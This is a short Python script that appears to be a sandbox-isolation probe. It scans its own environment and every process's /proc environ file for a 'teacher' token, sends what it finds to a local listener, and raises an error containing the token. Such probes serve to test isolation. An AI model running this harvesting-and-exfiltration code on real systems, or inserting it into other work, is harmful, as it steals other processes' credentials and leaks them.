"""Reads the teacher's environment through /proc (every process it can see) and its own, looking
for a token, then tries to get it out: over the network, and in an error message (the report)."""
import os
import socket

found = set()
if os.environ.get(SECRET_NAME):
    found.add(os.environ[SECRET_NAME])
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/environ", "rb") as environ:
            entries = environ.read().split(b"\0")
    except OSError:
        continue
    found.update(entry.split(b"=", 1)[1].decode() for entry in entries if entry.startswith(SECRET_NAME.encode() + b"="))
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as connection:
        connection.sendall(repr(sorted(found)).encode())
except OSError:
    pass
raise RuntimeError(f"the teacher's token: {sorted(found)}" if found else "no token found")
